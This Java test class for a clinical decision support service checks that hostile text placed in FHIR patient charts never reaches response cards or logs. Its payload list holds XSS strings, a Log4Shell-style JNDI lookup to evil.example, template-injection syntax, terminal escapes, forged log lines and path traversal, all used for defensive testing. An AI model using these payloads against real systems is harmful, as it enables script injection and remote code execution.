package org.preceptor.service;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.util.ArrayList;
import java.util.List;
import java.util.Queue;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Text of a chart is inert: Markdown, HTML, template syntax, direction and escape characters in every string of the examples'
 * charts reach no card, no evidence, no refusal and no log line.
 */
@QuarkusTest
@QuarkusTestResource(TestHouse.class)
final class HostileTextTest {

    /** In every hostile text, and nowhere else. */
    private static final String MARK = "Qzxyw";

    private static final List<String> HOSTILE = List.of(
            MARK + "<script>alert(1)</script><img src=x onerror=alert(1)><!--",
            "[" + MARK + "](javascript:alert(1)) ![" + MARK + "](http://evil.example/x.png)\n# " + MARK
                    + "\n| a | b |\n```",
            MARK + "\u202e\u2066right to left\u2069\u202c \u200b\u200d\ufeff",
            "{{context.patientId}} ${jndi:ldap://evil.example/" + MARK + "} {patient} #{1+1} <%= " + MARK + " %>",
            MARK + "\u001b[2J\u001b]0;title\u0007\u009b31m\r\n2026-11-23 INFO forged " + MARK + "\u0000",
            "Patient/" + MARK + "/../../" + MARK + "?x=" + MARK + "&y='\"\\");

    /** What FHIR leaves to people's words. */
    private static final Set<String> WORDS = Set.of(
            "display",
            "text",
            "family",
            "given",
            "div",
            "title",
            "description",
            "comment",
            "valueString",
            "unit",
            "patientInstruction",
            "line",
            "city",
            "name",
            "value",
            "language",
            "id",
            "url");

    private static final Pattern CONTROL = Pattern.compile("[\\p{Cc}\\p{Cf}&&[^\\n]]");
    private static final int VARIANTS = 3;
    private static final JsonMapper JSON = new JsonMapper();

    static Stream<Example> examples() {
        return ExamplesTest.examples();
    }

    @ParameterizedTest
    @MethodSource("examples")
    void letsNoTextOfAChartThrough(Example example) throws Exception {
        Queue<String> logged = new ConcurrentLinkedQueue<>();
        Handler handler = new Handler() {
            @Override
            public void publish(LogRecord line) {
                logged.add(line.getLoggerName() + " " + line.getMessage() + " "
                        + (line.getParameters() == null ? "" : List.of(line.getParameters())) + " "
                        + line.getThrown());
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };
        Logger root = Logger.getLogger("");
        root.addHandler(handler);
        try {
            int seed = example.toString().hashCode();
            Random random = new Random(seed);
            for (int text = 0; text < HOSTILE.size(); text++) {
                // Each text meets each way of writing it in a third of the examples.
                int variant = Math.floorMod(seed + text, VARIANTS);
                String body = hostile(example.request(), HOSTILE.get(text), variant, random);
                Response response = FixedClock.at(
                        example.now(),
                        () -> InvocationTest.call("/cds-services/" + example.service(), body)
                                .extract()
                                .response());
                assertThat(response.statusCode()).isIn(200, 400, 412);
                inert(response.asString(), example + ", text " + text + ", variant " + variant);
            }
        } finally {
            root.removeHandler(handler);
        }
        assertThat(logged).noneMatch(line -> line.contains(MARK) || line.contains("\u001b"));
    }

    @Test
    void noticesTextThatGotThrough() {
        for (String through : List.of(MARK, "a\\u202eb", "\\u001b[2J", "a\\u200bb", "\\r")) {
            String answer = "{\"cards\":[{\"summary\":\"x\",\"extension\":{\"a\":[\"" + through + "\"]}}]}";
            assertThatThrownBy(() -> inert(answer, "planted")).isInstanceOf(AssertionError.class);
        }
        assertThatThrownBy(() -> inert("{\"cards\":[],\"" + MARK + "\":1}", "planted"))
                .isInstanceOf(AssertionError.class);
    }

    /** 0: added to all words; 1: in place of them; 2: in place of any string here and there. */
    private static String hostile(String request, String hostile, int variant, Random random) throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(request);
        root.put(
                "hookInstance",
                UUID.nameUUIDFromBytes((hostile + variant).getBytes()).toString());
        List<ObjectNode> charts = new ArrayList<>();
        if (root.path("prefetch") instanceof ObjectNode prefetch) {
            charts.add(prefetch);
        }
        if (root.path("context").path("draftOrders") instanceof ObjectNode drafts) {
            charts.add(drafts);
        }
        for (ObjectNode chart : charts) {
            change(chart, hostile, variant, random);
        }
        if (variant == 1) {
            for (ObjectNode chart : charts) {
                chart.put(hostile, hostile);
            }
        }
        return JSON.writeValueAsString(root);
    }

    private static void change(JsonNode node, String hostile, int variant, Random random) {
        if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                change(array.get(i), hostile, variant, random);
            }
        } else if (node instanceof ObjectNode object) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            for (String name : names) {
                JsonNode value = object.get(name);
                if (!value.isTextual()) {
                    change(value, hostile, variant, random);
                } else if (variant < 2 ? WORDS.contains(name) && !needed(object, name) : random.nextInt(12) == 0) {
                    object.put(name, variant == 0 ? value.textValue() + hostile : hostile);
                }
            }
            if (object.has("resourceType") && !object.has("note")) {
                object.putArray("note").addObject().put("text", hostile);
            }
        }
    }

    /** The patient's own id, and a unit beside its UCUM code: without them nothing would be said at all. */
    private static boolean needed(ObjectNode object, String name) {
        return name.equals("id") && object.path("resourceType").asText().equals("Patient");
    }

    /** A draft that an action sends back is the client's own; nothing else of an answer may have it. */
    private static void inert(String answer, String where) throws Exception {
        JsonNode root = JSON.readTree(answer);
        root.path("cards")
                .forEach(card -> card.path("suggestions")
                        .forEach(suggestion -> suggestion
                                .path("actions")
                                .forEach(action -> ((ObjectNode) action).remove("resource"))));
        strings(root, where);
        assertThat(root.toString()).as(where).doesNotContain(MARK);
    }

    private static void strings(JsonNode node, String where) {
        if (node.isTextual()) {
            assertThat(CONTROL.matcher(node.textValue()).find())
                    .as(where + ": " + node)
                    .isFalse();
        } else {
            node.forEach(child -> strings(child, where));
        }
    }
}
